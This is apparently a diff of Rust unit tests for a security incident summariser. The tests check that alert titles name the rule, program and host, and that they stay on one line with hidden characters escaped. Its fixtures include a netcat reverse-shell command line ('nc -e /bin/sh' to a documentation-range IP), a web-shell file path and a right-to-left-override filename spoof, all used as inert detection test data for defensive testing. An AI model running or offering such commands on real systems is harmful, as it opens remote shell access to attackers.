@@ -157,42 +157,69 @@ fn of_several_incidents_the_surest_and_then_the_latest_is_chosen() {
     assert_eq!(chosen(&[open("a", &[], 9)]), None);
 }
 
-#[test]
-fn a_title_says_what_happened() {
-    let title = |scene: &Scene| summary::of(&[View::of(&scene.chain)], &setting()).title;
-    assert_eq!(title(&stories::dropper()), "curl dropped /tmp/x and bash ran it on web-1");
-    assert_eq!(title(&stories::by_cron()), "sh ran /tmp/x on web-1");
-    let story = |tell: &dyn Fn(&mut Scene) -> u64, verdict: Verdict| {
+/// What found it, what was done at once, and what happened; the event that it was.
+type Story<'s> = (Source, Verdict, &'s dyn Fn(&mut Scene) -> u64);
+
+/// Titles, one a line, of scenes in which a rule hit on one event of a person's shell.
+fn titles(stories: &[Story<'_>]) -> String {
+    let title = |(source, verdict, tell): &Story<'_>| {
         let mut scene = Scene::new("e1", "c", 100);
         scene.run(100, 0, "/usr/bin/bash -i");
         let key = tell(&mut scene);
-        scene.detect(key, Source::Behaviour, Severity::High, "Rule", &[]).verdict = verdict.into();
-        title(&scene)
+        scene.detect(key, *source, Severity::High, "Rule of a kind", &[]).verdict = (*verdict).into();
+        summary::of(&[View::of(&scene.chain)], &setting()).title
     };
-    let detected = |tell: &dyn Fn(&mut Scene) -> u64| story(tell, Verdict::Detected);
-    assert_eq!(
-        detected(&|scene| scene.script(101, 100, "/bin/sh", "/tmp/i.sh")),
-        "bash ran /tmp/i.sh on web-1"
-    );
-    assert_eq!(detected(&|scene| scene.run(101, 100, "/usr/bin/nc -e sh")), "bash ran nc -e sh on web-1");
-    assert_eq!(
-        detected(&|scene| scene.connect(100, "2001:db8::9", 443)),
-        "bash connected to [2001:db8::9]:443 on web-1"
-    );
-    assert_eq!(detected(&|scene| scene.ask(100, "a.example", [1; 4])), "bash asked for a.example on web-1");
-    let moved = |scene: &mut Scene| {
-        scene.script(101, 100, "/usr/bin/python3.11", "/tmp/get.py");
-        scene.create(101, "/tmp/a.part", 0x11, Format::Elf);
-        scene.rename(101, "/tmp/a.part", "/tmp/a", 0x11, Format::Elf);
-        scene.run(102, 101, "/tmp/a")
-    };
-    assert_eq!(detected(&moved), "get.py dropped and ran /tmp/a on web-1");
-    assert_eq!(
-        story(&moved, Verdict::Prevented),
-        "get.py dropped /tmp/a, which was kept from running, on web-1"
-    );
+    stories.iter().map(title).collect::<Vec<_>>().join("\n")
+}
+
+#[test]
+fn a_title_says_which_rule_hit_which_program_where() {
+    let title = |scene: &Scene| summary::of(&[View::of(&scene.chain)], &setting()).title;
+    assert_eq!(title(&stories::dropper()), "Dropper: x on web-1");
+    assert_eq!(title(&stories::by_cron()), "Cron runs a program of /tmp: x on web-1");
+    let long = format!("/usr/bin/python3 -c {}", "import os;".repeat(100));
+    let odd = |name: &'static str| move |scene: &mut Scene| scene.run(101, 100, &format!("/tmp/{name}"));
+    let (ours, yara, asked) = (Source::Behaviour, Source::Yara, Source::Asked);
+    let done = Verdict::Detected;
+    insta::assert_snapshot!(titles(&[
+        (ours, done, &|scene| scene.script(101, 100, "/bin/sh", "/tmp/i.sh")),
+        (ours, done, &|scene| scene.run(101, 100, "/usr/bin/nc -e /bin/sh 203.0.113.9 4444")),
+        (ours, Verdict::Prevented, &|scene| scene.run(101, 100, &long)),
+        (ours, done, &|scene| scene.connect(100, "2001:db8::9", 443)),
+        (ours, done, &|scene| scene.ask(100, "a.example", [1; 4])),
+        (ours, done, &|scene| scene.create(100, "/etc/cron.d/x", 1, Format::Unspecified)),
+        (yara, done, &|scene| scene.create(100, "/var/www/up/shell.php", 1, Format::Script)),
+        (asked, done, &|scene| scene.run(101, 100, "/usr/bin/ls -la")),
+        (ours, done, &odd("a\u{202e}gpj.exe\u{7}")),
+        (ours, done, &odd("n".repeat(255).leak())),
+        (ours, done, &|_| 999),
+    ]), @r"
+    Rule of a kind: i.sh on web-1
+    Rule of a kind: nc on web-1
+    Rule of a kind: python3 on web-1, prevented
+    Rule of a kind: bash on web-1
+    Rule of a kind: bash on web-1
+    Rule of a kind: bash on web-1
+    Rule of a kind: shell.php on web-1
+    Chain asked for: ls on web-1
+    Rule of a kind: a\u{202e}gpj.exe\u{7} on web-1
+    Rule of a kind: nnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnnn… on web-1
+    Rule of a kind on web-1
+    ");
     let empty = summary::of(&[], &setting());
     assert_eq!((empty.title.as_str(), empty.severity), ("", "informational"));
+}
+
+#[test]
+fn a_title_stays_a_line_whatever_it_is_made_of() {
+    let mut scene = Scene::new("e1", "c", 100);
+    let run = scene.run(100, 0, &format!("/tmp/{}", "\u{202e}".repeat(80)));
+    scene.detect(run, Source::Behaviour, Severity::High, &"\n\u{200b}".repeat(400), &[]);
+    let mut setting = setting();
+    setting.endpoints.get_mut("e1").unwrap().name = "e\u{1b}".repeat(300);
+    let title = summary::of(&[View::of(&scene.chain)], &setting).title;
+    assert!(title.chars().count() <= 200 && title.contains(" on e\\u{1b}"), "{title}");
+    assert!(!title.chars().any(quell_incident::text::is_hidden), "{title}");
 }
 
 #[test]
